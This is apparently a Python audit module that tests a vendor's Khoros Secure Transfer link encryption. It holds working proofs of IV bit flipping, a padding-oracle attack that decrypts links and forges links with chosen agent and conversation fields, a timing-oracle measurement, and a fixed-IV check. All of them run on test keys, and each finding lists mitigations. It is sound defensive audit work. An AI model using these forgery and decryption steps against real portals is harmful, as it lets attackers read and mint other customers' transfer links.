"""Khoros Secure Transfer (AES-CBC, no MAC), audited against the vendor's Java: ST-1 (IV bit flipping), ST-2 (padding
oracle: decrypt any link, forge one with chosen fields; is there a timing oracle?) and ST-3 (a fixed IV).

Every key here is a TEST key drawn from a fixed seed (:func:`test_keys`). The attacks are public modules of their
own (:mod:`conformance.audit.padding_oracle`); :func:`_flip_first_block` is ST-1's, in one line of XOR.
"""

from __future__ import annotations

import json
import random
from typing import Any

from conformance import registry
from conformance.arguments import require_mapping
from conformance.audit import padding_oracle, stats, svg
from conformance.audit.evidence import Details, Stopwatch, rate, reference_versions
from conformance.audit.model import Finding, proof
from conformance.codecs import decode_base64, encode_base64, encode_base64_url_safe
from conformance.errors import InvalidArgument
from conformance.vendors.khoros import DOCUMENT_PAYLOAD

#: The vendor's Khoros Java, reached through the registry.
vendor = registry.bridge("java")

FLOW = "khoros_secure_transfer"
SEED = "handoff-conformance audit: Khoros Secure Transfer TEST key"
#: What ST-2 forges: the fields the portal passes to the widget to link conversations and agents.
FORGED_FIELDS = {"conversationDisplayId": 990001, "agentId": 4242, "authorScreenName": "mallory"}
TIMING_WARMUP, TIMING_ROUNDS = 4000, 8000
#: A timing difference is *detectable* when the AUC is this many standard errors from 0.5, and a *one-call*
#: oracle when a single call is also classified right this often.
DETECTABLE_Z, ONE_CALL_ACCURACY = 5.0, 0.75

_NO_MAC = (
    "The payload is AES-CBC with PKCS#5 padding and no MAC, and the IV travels in the link: nothing binds the "
    "ciphertext or the IV to the key holder."
)

ST_1 = Details(
    id="ST-1",
    flow=FLOW,
    title="Flipping IV bits rewrites the first 16 bytes of the payload, and decryptPayload accepts it",
    severity="medium",
    severity_reasoning=_NO_MAC + " Alone, the attacker controls only the first block (a field injected or renamed, "
    "or a value that sits there); with ST-2 the whole payload.",
    cwe="CWE-649",
    attacker_model="Anyone holding one transfer link (the end user it was sent to, or whoever sees the link), "
    "without the key, who knows or guesses the payload's first 16 bytes (its JSON layout is in the document).",
    preconditions=["a genuine transfer link", "the first 16 bytes of its plaintext (public JSON layout)"],
    mitigation="Authenticate the payload: AES-GCM, or encrypt-then-MAC (HMAC-SHA256 over IV and ciphertext, "
    "checked in constant time before decrypting); the portal must reject a link whose MAC fails.",
)
ST_2 = Details(
    id="ST-2",
    flow=FLOW,
    title="Padding oracle: a portal that tells bad padding from bad JSON lets anyone decrypt and forge payloads",
    severity="high",
    severity_reasoning=_NO_MAC + " Given the oracle, the attacker reads any link and mints links with the "
    "conversationDisplayId and agentId of their choice: Khoros Care then links their chat to another customer's "
    "conversation and profile. Not critical: it needs the portal to leak the difference.",
    cwe="CWE-649, CWE-203",
    attacker_model="A remote, unauthenticated client of the brand's portal that can send it chosen links and "
    "observe whether each failed on padding or on JSON (error page, HTTP status, log-derived behaviour or time).",
    preconditions=[
        "the portal's answer differs between decryptString's EncryptionException and org.json's JSONException "
        "(the document's code logs them differently), or their timing differs measurably",
        "about 128 portal requests per payload byte",
    ],
    mitigation="Authenticate before decrypting (AES-GCM or encrypt-then-MAC) so every tampered link fails the "
    "same way, at the same point; until then answer both failures identically and rate-limit failed links.",
)
ST_3 = Details(
    id="ST-3",
    flow=FLOW,
    title="The IV is fixed when the provider is built: equal plaintext prefixes give equal ciphertext prefixes",
    severity="low",
    severity_reasoning="Links encrypted by one provider leak which leading 16-byte blocks their payloads share "
    "(same channel, same agent, same customer), and repeat exactly for repeated payloads; they do not leak the "
    "bytes themselves. Whether Khoros reuses a provider is not visible here: the link carries the IV, so a portal "
    "can check.",
    cwe="CWE-329",
    attacker_model="A passive observer of several transfer links (shared links, link-shortener or proxy logs).",
    preconditions=["the sender builds one SymmetricKeyEncryptionProvider and calls encryptString(plainText)"],
    mitigation="A fresh random IV per payload (encryptString(plainText, generateNewIV())), sent with the link; "
    "better, AES-GCM with a fresh nonce.",
)


def test_keys() -> tuple[str, str]:
    """The TEST ``(encryptionKey, ivKey)``: 32 and 16 bytes from :data:`SEED`, standard Base64."""
    rng = random.Random(SEED)
    return encode_base64(rng.randbytes(32)), encode_base64(rng.randbytes(16))


def payload_text(payload: dict[str, Any]) -> str:
    """The payload as compact JSON, in the given key order. Raises :class:`InvalidArgument` for what is not a
    mapping, or one holding what is not JSON (bytes, an int too long, nesting too deep)."""
    payload = require_mapping(payload, "payload")
    try:
        return json.dumps(payload, separators=(",", ":"))
    except (TypeError, ValueError, RecursionError):
        raise InvalidArgument("payload holds what is not JSON") from None


def _flip_first_block(iv: bytes, known: bytes, chosen: bytes) -> bytes:
    """ST-1: the IV that makes the first block decrypt to ``chosen`` instead of ``known`` (16 bytes each)."""
    if not len(iv) == len(known) == len(chosen) == 16:
        raise InvalidArgument("the IV, the known and the chosen block are 16 bytes each")
    return bytes(a ^ b ^ c for a, b, c in zip(iv, known, chosen, strict=True))


def _java_references() -> dict[str, dict[str, str]]:
    return reference_versions(["java"])


@proof("ST-1", FLOW, ("java",), details=ST_1)
def _prove_iv_bit_flipping() -> Finding:
    """Rewrite the first block of two genuine links (document layout; agentId first) and ask decryptPayload."""
    if (skipped := ST_1.unavailable(["java"])) is not None:
        return skipped
    key, iv_key = test_keys()
    agent_first = {"agentId": 123, **{k: v for k, v in DOCUMENT_PAYLOAD.items() if k != "agentId"}}
    cases = [
        ("the document's payload: a field injected", DOCUMENT_PAYLOAD, b'{"admin":true,"T'),
        ("agentId first: its value rewritten", agent_first, b'{"agentId":999,"'),
    ]
    demonstrations = []
    for label, payload, chosen in cases:
        text = payload_text(payload)
        encrypted = vendor.encrypt_link_payload(key, iv_key, text)
        forged_iv = encode_base64(_flip_first_block(decode_base64(iv_key), text[:16].encode(), chosen))
        answer = vendor.decrypt_payload(forged_iv, encrypted, key)
        expected = json.loads(chosen.decode() + text[16:])
        demonstrations.append(
            {
                "case": label,
                "encryptionKey": key,
                "ivKey": iv_key,
                "encryptedPayload": encrypted,
                "forgedIvKey": forged_iv,
                "originalFirstBlock": text[:16],
                "chosenFirstBlock": chosen.decode(),
                "accepted": answer is not None,
                "decrypted": None if answer is None else json.loads(answer),
                "asChosen": answer is not None and json.loads(answer) == expected,
            }
        )
    good = sum(d["asChosen"] for d in demonstrations)
    rejected = sum(not d["accepted"] for d in demonstrations)
    if good == len(cases):
        status, why = (
            "proved",
            (
                f"in {good} of {len(cases)} links, flipping IV bits (no key, no oracle) made the vendor's decryptPayload "
                "accept a payload whose first 16 bytes the attacker chose; the rest decrypted unchanged"
            ),
        )
    elif rejected == len(cases):
        status, why = "refuted", "decryptPayload rejected every link with a rewritten IV"
    else:
        status, why = "not_reproduced", f"{good} of {len(cases)} rewritten links decrypted as chosen"
    return ST_1.finding(
        status,
        why,
        ran=[
            "vendor Java SymmetricKeyEncryptionProvider(TEST key, TEST IV, true).encryptString(payload JSON): the link",
            "attacker: IV' = IV xor known first block xor chosen first block (no key, no query)",
            "vendor Java decryptPayload(IV', same payload, TEST key) (dev.handoff.ref.PayloadDecryption)",
        ],
        references=_java_references(),
        figures={"bytes_rewritten": 16, "oracle_queries": 0, "links": len(cases), "accepted_as_chosen": good},
        artifacts={"demonstrations": demonstrations},
    )


def _timing_links(oracle: vendor.VendorJavaOracle, block: bytes) -> tuple[bytes, bytes]:
    """Two one-block links of the attack's shape: an IV that fails on padding, one that fails on JSON."""
    value, _ = oracle.first_valid(bytes(16), block, 15, 0)
    if value is None:
        raise InvalidArgument("no IV byte gives valid padding")
    json_iv = bytes(15) + bytes([value])
    padding_iv = next(
        iv
        for iv in (bytes(15) + bytes([(value + step) % 256]) for step in range(1, 256))
        if oracle.classify(iv, block) == "padding_failure"
    )
    if oracle.classify(json_iv, block) != "json_failure":
        raise InvalidArgument("the valid-padding probe did not fail on JSON")
    return padding_iv, json_iv


def _measure_timing(key: str, oracle: vendor.VendorJavaOracle, block: bytes) -> tuple[dict[str, Any], str]:
    """Time decryptPayload on a padding-failure and a JSON-failure link (inside the JVM); return the figures and
    the histogram (SVG)."""
    padding_iv, json_iv = _timing_links(oracle, block)
    padding_times, json_times = vendor.time_two_links(
        key,
        vendor.link_parameters(padding_iv, block),
        vendor.link_parameters(json_iv, block),
        warmup=TIMING_WARMUP,
        rounds=TIMING_ROUNDS,
        seed=20261130,
    )
    apart = stats.separation(padding_times, json_times)
    z = stats.auc_z(apart["auc"], len(padding_times), len(json_times))
    detectable = abs(z) >= DETECTABLE_Z
    figures = {
        "rounds": TIMING_ROUNDS,
        "padding_failure_ns": apart["first"],
        "json_failure_ns": apart["second"],
        "median_difference_ns": apart["median_difference"],
        "auc": apart["auc"],
        "auc_z": round(z, 1),
        "single_call_accuracy": apart["threshold_accuracy"],
        "detectable": detectable,
        "one_call_oracle": detectable and apart["threshold_accuracy"] >= ONE_CALL_ACCURACY,
        "criterion": f"detectable: |AUC - 0.5| >= {DETECTABLE_Z:g} standard errors; one-call oracle: also "
        f">= {ONE_CALL_ACCURACY:.0%} of single calls classified right",
    }
    plot = svg.histogram(
        {"padding failure": [t / 1000 for t in padding_times], "JSON failure": [t / 1000 for t in json_times]},
        title="ST-2: time of decryptPayload's two failure paths (vendor Java, in-JVM, one-block links)",
        unit="us per call",
    )
    return figures, plot


@proof("ST-2", FLOW, ("java",), details=ST_2)
def _prove_padding_oracle() -> Finding:
    """Decrypt the document's payload and forge one with chosen fields, asking only the vendor Java's oracle."""
    if (skipped := ST_2.unavailable(["java"])) is not None:
        return skipped
    key, iv_key = test_keys()
    text = payload_text(DOCUMENT_PAYLOAD)
    ciphertext = decode_base64(vendor.encrypt_link_payload(key, iv_key, text))
    oracle = vendor.VendorJavaOracle(key)
    with Stopwatch() as decrypting:
        plaintext, per_byte = padding_oracle.decrypt(oracle, decode_base64(iv_key), ciphertext)
    claimed = dict(FORGED_FIELDS)
    last_block = random.Random(SEED + " forge").randbytes(16)
    with Stopwatch() as forging:
        forged_iv, forged_ciphertext, forge_queries = padding_oracle.forge(
            oracle, payload_text(claimed).encode(), last_block
        )
    forged_iv_key, forged_payload = vendor.link_parameters(forged_iv, forged_ciphertext)
    answer = vendor.decrypt_payload(forged_iv_key, forged_payload, key)
    timing, timing_plot = _measure_timing(key, oracle, ciphertext[:16])
    decrypted_ok = plaintext == text.encode()
    forged_ok = answer is not None and json.loads(answer) == claimed
    total = sum(per_byte)
    padded_forgery = len(padding_oracle.pad(payload_text(claimed).encode()))
    timing_text = (
        f"in-JVM timing: median {timing['padding_failure_ns']['median'] / 1000:.2f} us (padding) vs "
        f"{timing['json_failure_ns']['median'] / 1000:.2f} us (JSON), AUC {timing['auc']} ({timing['auc_z']} "
        f"standard errors from 0.5), one call classified right {timing['single_call_accuracy']:.0%} of the time: "
        + (
            "a one-call timing oracle"
            if timing["one_call_oracle"]
            else "a difference detectable over many calls, not from one"
            if timing["detectable"]
            else "no timing difference detected"
        )
    )
    if decrypted_ok and forged_ok:
        status = "proved"
        why = (
            f"with the vendor Java's padding/JSON distinction as oracle, the {len(plaintext)}-byte document payload "
            f"decrypted exactly ({total} queries, {total / len(ciphertext):.1f} per byte), and a forged link for "
            f"{json.dumps(claimed)} ({forge_queries} queries) was accepted by decryptPayload; " + timing_text
        )
    elif decrypted_ok and not forged_ok:
        status, why = "refuted", "the decryption worked but decryptPayload rejected the forged link; " + timing_text
    else:
        status, why = "not_reproduced", "the oracle decryption did not give the encrypted payload back"
    finding = ST_2.finding(
        status,
        why,
        ran=[
            "vendor Java encryptString(document payload JSON) with the TEST key and IV: the captured link",
            "oracle = dev.handoff.ref.PaddingOracleProbe: the document's decryptPayload body through the vendor's "
            "SymmetricKeyEncryptionProvider and org.json, answering whether decryptString failed on padding",
            "padding_oracle.decrypt(oracle, IV, ciphertext): every block, one-block queries with a chosen IV",
            f"padding_oracle.forge(oracle, {json.dumps(claimed)})",
            "vendor Java decryptPayload(forged ivKey, forged payload, TEST key) (dev.handoff.ref.PayloadDecryption)",
            f"timing: {TIMING_ROUNDS} interleaved decryptPayload calls per failure path after {TIMING_WARMUP} "
            "warm-up calls each, System.nanoTime inside the JVM",
        ],
        references=_java_references(),
        figures={
            "decrypt": {
                "bytes": len(ciphertext),
                "queries_total": total,
                "queries_per_byte_mean": round(total / len(ciphertext), 2),
                "queries_per_byte_max": max(per_byte),
                "seconds": decrypting.seconds,
                "queries_per_second": rate(total, decrypting.seconds),
            },
            "forge": {
                "bytes": padded_forgery,
                "queries_total": forge_queries,
                "queries_per_byte_mean": round(forge_queries / padded_forgery, 2),
                "seconds": forging.seconds,
            },
            "queries_per_byte": per_byte,
            "timing": timing,
        },
        artifacts={
            "encryptionKey": key,
            "ivKey": forged_iv_key,
            "encryptedPayload": forged_payload,
            "claimed": claimed,
            "captured": {"ivKey": iv_key, "encryptedPayload": encode_base64_url_safe(ciphertext)},
            "decrypted": plaintext.decode("utf-8", "replace"),
        },
    )
    finding.plots = [
        {
            "title": "Oracle queries per ciphertext byte (decrypting the document's payload)",
            "svg": svg.columns(
                per_byte,
                title="ST-2: oracle queries per byte, decrypting the captured link",
                x_label="ciphertext byte",
                y_label="queries",
                reference=(128.5, "dashed: 128.5, the mean for a uniformly random byte"),
            ),
        },
        {"title": "Time of the two failure paths", "svg": timing_plot},
    ]
    return finding


@proof("ST-3", FLOW, ("java",), details=ST_3)
def _prove_fixed_iv() -> Finding:
    """Two payloads with a common prefix, and one repeated, through one vendor provider."""
    if (skipped := ST_3.unavailable(["java"])) is not None:
        return skipped
    key, iv_key = test_keys()
    first = payload_text(DOCUMENT_PAYLOAD)
    second = payload_text({**DOCUMENT_PAYLOAD, "authorUUID": "c17.....", "authorScreenName": "dana456"})
    encrypted = vendor.encrypt_with_one_provider(key, iv_key, [first, second, first])
    blocks = [decode_base64(e) for e in encrypted]
    common = next(i for i, (a, b) in enumerate(zip(first, second, strict=False)) if a != b)
    expected_equal = common // 16
    observed_equal = (
        next(
            (i for i in range(0, min(map(len, blocks[:2])), 16) if blocks[0][i : i + 16] != blocks[1][i : i + 16]),
            min(map(len, blocks[:2])),
        )
        // 16
    )
    repeated = encrypted[0] == encrypted[2]
    if observed_equal == expected_equal and repeated:
        status, why = (
            "proved",
            (
                f"two payloads sharing their first {common} bytes encrypted by one provider share exactly their first "
                f"{observed_equal} ciphertext blocks, and the same payload encrypted twice gives the same link"
            ),
        )
    elif observed_equal == 0 and not repeated:
        status, why = "refuted", "the provider's ciphertexts share no prefix: the IV is not fixed"
    else:
        status, why = "not_reproduced", f"{observed_equal} equal blocks observed, {expected_equal} predicted"
    return ST_3.finding(
        status,
        why,
        ran=[
            "one vendor Java SymmetricKeyEncryptionProvider(TEST key, TEST IV, true)",
            "encryptString(A), encryptString(B), encryptString(A): A, B differ from the authorUUID on",
        ],
        references=_java_references(),
        figures={
            "common_prefix_bytes": common,
            "equal_blocks_predicted": expected_equal,
            "equal_blocks_observed": observed_equal,
            "repeat_identical": repeated,
        },
        artifacts={"encryptionKey": key, "ivKey": iv_key, "plainTexts": [first, second], "encrypted": encrypted},
    )


__all__ = [
    "FORGED_FIELDS",
    "ST_1",
    "ST_2",
    "ST_3",
    "payload_text",
    "test_keys",
]
